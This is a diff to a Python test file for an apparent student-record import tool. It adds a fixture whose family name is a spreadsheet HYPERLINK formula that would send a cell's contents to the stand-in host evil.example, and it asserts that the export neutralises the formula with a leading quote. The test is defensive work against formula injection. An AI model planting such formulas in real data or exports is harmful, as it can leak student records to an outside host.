@@ -16,10 +16,12 @@ from pathlib import Path
 
 from fixtures_oneroster import make_bundle, write_bundle
 
+FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Alvarez")'
 NEWCOMERS = [
     {"sis_id": "300001", "given_name": "Zara", "family_name": "Okonkwo", "birth_date": "2012-02-02", "sex": "F",
      "grade": "07", "state_id": "9000000901", "school_id": "0101", "school_name": "Lincoln Middle School"},
-    {"sis_id": "300002", "given_name": "Mateo", "family_name": "Alvarez", "birth_date": "2011-10-10", "sex": "M",
+    # A family name another district's data could hold, which a spreadsheet would run as a formula.
+    {"sis_id": "300002", "given_name": "Mateo", "family_name": FORMULA, "birth_date": "2011-10-10", "sex": "M",
      "grade": "08", "school_id": "0101", "school_name": "Lincoln Middle School"},
 ]  # fmt: skip
 
@@ -91,6 +93,7 @@ def test_preview_review_run_log_and_receipt(pair, tmp_path: Path) -> None:
     first = next(r for r in rows if r["SourceStudentId"] == "100001")
     assert first["DestinationStudentId"] == "100001" and first["DocumentCount"] == "1"
     assert first["ScoreImportStatus"] == "Imported 1" and first["StateId"] == "9000000101"
+    assert next(r for r in rows if r["SourceStudentId"] == "300002")["LastName"] == "'" + FORMULA  # text in Excel
     listed = _json(b, "imports", "list", "--json")
     assert listed[0]["students"] == "4 of 4" and listed[0]["school"] == "Lincoln Middle School"
 
